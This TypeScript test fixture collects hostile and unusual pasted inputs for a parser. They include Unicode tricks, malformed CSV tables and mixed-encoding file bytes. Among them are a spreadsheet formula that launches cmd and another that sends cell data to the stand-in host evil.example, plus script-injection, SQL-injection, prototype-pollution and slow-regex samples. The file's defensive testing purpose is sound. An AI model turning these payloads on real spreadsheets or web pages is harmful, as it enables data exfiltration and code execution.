/** What people paste without meaning harm, and what somebody pastes who does. None may throw, run, hang or be taken for clear. */

const bytes = (...of: (number | string)[]) =>
  new Uint8Array(of.flatMap((each) => (typeof each === 'string' ? [...new TextEncoder().encode(each)] : [each])))

/** Texts, with how many lines they are. */
export const HOSTILE_TEXTS: readonly [what: string, text: string, lines: number][] = [
  ['nothing', '', 0],
  ['blanks', ' \t \n\u3000\n', 0],
  ['a formula', '=1+1', 1],
  ['a formula that calls a program', "=cmd|' /C calc'!A0", 1],
  ['a formula that sends', '=HYPERLINK("http://evil.example/?"&A1,"JAXA")', 1],
  ['a formula behind a tab', '\t=1+1', 1],
  ['a formula with a plus', '+1+1', 1],
  ['a formula with a minus', '-1+cmd()', 1],
  ['a formula with an at', '@SUM(A1:A9)', 1],
  ['NUL', 'JA\0XA', 1],
  ['a bell', '\x07', 1],
  ['an escape', '\x1b[2J', 1],
  ['an override from right to left', 'JAXA\u202eAXAJ', 1],
  ['isolates that nobody closes', '\u2066\u2067JAXA', 1],
  ['half a character', 'a\ud800b', 1],
  ['the other half', '\udc00', 1],
  ['what cannot be seen', '\u200b\u200c\u200d\u2060\ufeff', 1],
  ['a name with what cannot be seen', 'JA\u200bX\u00adA', 1],
  ['a filler of Hangul', '\u3164', 1],
  ['the blank of Braille', '\u2800\u2800', 1],
  ['tags', '\u{e0041}\u{e0042}', 1],
  ['a noncharacter', '\ufdd0', 1],
  ['a mark without a letter', '\u0301\u0301\u0301', 1],
  ['a letter with 400 marks', `e${'\u0301'.repeat(400)}`, 1],
  ['a script', '<script>alert(1)</script>', 1],
  ['an image', '<img src=x onerror=alert(1)>', 1],
  ['the end of a page', '</textarea></body></html>', 1],
  ['a comment', '<!-- --> -->', 1],
  ['entities', '&lt;b&gt; &#0; &amp;amp;', 1],
  ['an address that runs', 'javascript:alert(1)', 1],
  ['an address', 'https://example.org/?q=8505', 1],
  ['__proto__', '__proto__', 1],
  ['constructor', 'constructor', 1],
  ['toString', 'toString', 1],
  ['hasOwnProperty', 'hasOwnProperty', 1],
  ['valueOf', 'valueOf\nprototype', 2],
  ['a huge number', '9'.repeat(400), 1],
  ['a small number', '-0', 1],
  ['not a number', 'NaN', 1],
  ['without end', 'Infinity', 1],
  ['a power', '1e308', 1],
  ['full-width digits', '８５０５．１１', 1],
  ['Arabic digits', '٨٥٠٥', 1],
  ['digits in circles', '⑧⑤⓪⑤', 1],
  ['Chinese digits', '八五〇五', 1],
  ['a year', '2026', 1],
  ['no chapter', '7701\n9999', 2],
  ['a date', '2026-11-28', 1],
  ['a statement', "'; drop table measures; --", 1],
  ['a pattern', '(a+)+$\n.*\n[', 3],
  ['a slow pattern', `${'a'.repeat(300)}!`, 1],
  ['a template', '#{7*7} {{7*7}} {count} <%= 7 %>', 1],
  ['percent signs', '%s%n%_\\', 1],
  ['quotation marks', '"""""', 1],
  ['legal forms alone', '株式会社\nCo., Ltd.\nInc', 3],
  ['line ends of every kind', 'a\r\nb\rc\nd\u2028e\u2029f\u0085g', 7],
  ['a byte order mark', '\ufeffJAXA', 1],
  ['mixed separators', 'JAXA,8505;1C101|scallops、無名', 1],
  ['smileys', '🏴‍☠️🇯🇵👩‍👩‍👧', 1],
  ['a line of 501 letters', 'x'.repeat(501), 1],
  ['a line of a megabyte', 'x'.repeat(1024 * 1024), 1],
  ['a megabyte without a letter', ' '.repeat(1024 * 1024), 0],
  ['5,000 lines', 'JAXA\n'.repeat(5000), 5000],
]

/** Tables that no program writes so, with their cells. */
export const HOSTILE_TABLES: readonly [what: string, text: string, cells: string[][]][] = [
  [
    'a quotation mark that is never closed',
    'name,code\n"JAXA,8505',
    [
      ['name', 'code'],
      ['JAXA', '8505'],
    ],
  ],
  ['a quotation mark within', 'JA"XA,8505', [['JA"XA', '8505']]],
  ['a line end in a cell', '"a\nb",c', [['a\nb', 'c']]],
  ['rows of different lengths', 'a\nb,c,d\n,\n', [['a'], ['b', 'c', 'd']]],
  [
    'a mark in front',
    '\ufeffname,code\nJAXA,1',
    [
      ['name', 'code'],
      ['JAXA', '1'],
    ],
  ],
  [
    'names that objects have',
    '__proto__,constructor\n1,2',
    [
      ['__proto__', 'constructor'],
      ['1', '2'],
    ],
  ],
]

const JAPANESE = [0x8e, 0x4f, 0x95, 0x48, 0x8f, 0x64, 0x8d, 0x48] // 三菱重工
const CHINESE = [0xc8, 0xfd, 0xc1, 0xe2, 0xd6, 0xd8, 0xb9, 0xa4] // 三菱重工

export const HOSTILE_FILES: readonly [what: string, bytes: Uint8Array, text: string | null][] = [
  ['plain', bytes('JAXA\n'), 'JAXA\n'],
  ['a byte order mark', bytes(0xef, 0xbb, 0xbf, 'JAXA'), 'JAXA'],
  ['UTF-16', bytes(0xff, 0xfe, 0x4a, 0, 0x41, 0), 'JA'],
  ['UTF-16, the other way', bytes(0xfe, 0xff, 0, 0x4a, 0, 0x41), 'JA'],
  ['UTF-16 without a mark', bytes(0x4a, 0, 0x41, 0, 0x58, 0, 0x41, 0), 'JAXA'],
  ['Shift_JIS', new Uint8Array(JAPANESE), '三菱重工'],
  ['GB 18030', new Uint8Array(CHINESE), '三菱重工'],
  ['a workbook', bytes('PK', 3, 4, 'xl/workbook.xml'), null],
  ['a paper', bytes('%PDF-1.7'), null],
  ['an old workbook', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1), null],
  ['bytes that are nothing', new Uint8Array([0xff, 0xff, 0x80, 0xff, 0xfd]), null],
  ['nothing', new Uint8Array(), ''],
]
